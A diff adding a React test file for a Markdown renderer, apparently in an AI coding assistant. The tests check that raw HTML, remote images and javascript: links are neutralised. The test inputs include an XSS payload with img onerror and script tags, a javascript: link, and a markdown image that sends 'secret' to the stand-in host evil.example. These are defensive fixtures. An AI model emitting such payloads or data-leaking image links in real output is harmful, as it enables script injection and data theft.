@@ -1,0 +1,50 @@
+import { cleanup, fireEvent, render, screen } from '@testing-library/react'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { testMain, type TestMain } from '../testMain.ts'
+import { Markdown } from './Markdown.tsx'
+
+let main: TestMain
+beforeEach(() => { main = testMain() })
+afterEach(cleanup)
+
+describe('Markdown', () => {
+  it('shows raw HTML as text', () => {
+    const { container } = render(<Markdown text={'Hello <img src=x onerror=alert(1)> <script>alert(1)</script>'} streaming={false} />)
+    expect(container.querySelector('img, script')).toBeNull()
+    expect(container.textContent).toContain('<script>')
+  })
+
+  it('loads no image', () => {
+    const { container } = render(<Markdown text="![secret](https://evil.example/?q=secret)" streaming={false} />)
+    expect(container.querySelector('img')).toBeNull()
+    expect(container.textContent).toContain('evil.example, not loaded')
+  })
+
+  it('opens a web link through main, and only that', () => {
+    render(<Markdown text="[docs](https://example.org/a) [bad](javascript:alert(1))" streaming={false} />)
+    fireEvent.click(screen.getByText('docs'))
+    expect(main.asked).toEqual([{ method: 'app.openExternal', params: { url: 'https://example.org/a' } }])
+    expect(screen.getByText('bad').closest('a, button')).toBeNull()
+  })
+
+  it('makes a path a button that opens the file', () => {
+    render(<Markdown text="[here](src/a.ts:3)" streaming={false} />)
+    expect(screen.getByRole('button', { name: 'here' }).getAttribute('title')).toBe('Open src/a.ts')
+  })
+
+  it('shows code that is still arriving, and the same code when it is whole', () => {
+    const { container, rerender } = render(<Markdown text={'Look:\n\n```ts\nconst a = 1'} streaming />)
+    expect(container.querySelector('pre')?.textContent).toBe('const a = 1')
+    rerender(<Markdown text={'Look:\n\n```ts\nconst a = 1\n```\n'} streaming={false} />)
+    expect(container.querySelector('pre')?.textContent).toBe('const a = 1')
+    expect(screen.getByRole('button', { name: 'Insert at cursor' })).toBeTruthy()
+  })
+
+  it('does not touch finished blocks when more text comes', () => {
+    const { container, rerender } = render(<Markdown text={'First.\n\nSecond'} streaming />)
+    const first = container.querySelector('p')
+    rerender(<Markdown text={'First.\n\nSecond goes on.\n\nThird'} streaming />)
+    expect(container.querySelector('p')).toBe(first)
+    expect(container.querySelectorAll('p')).toHaveLength(3)
+  })
+})
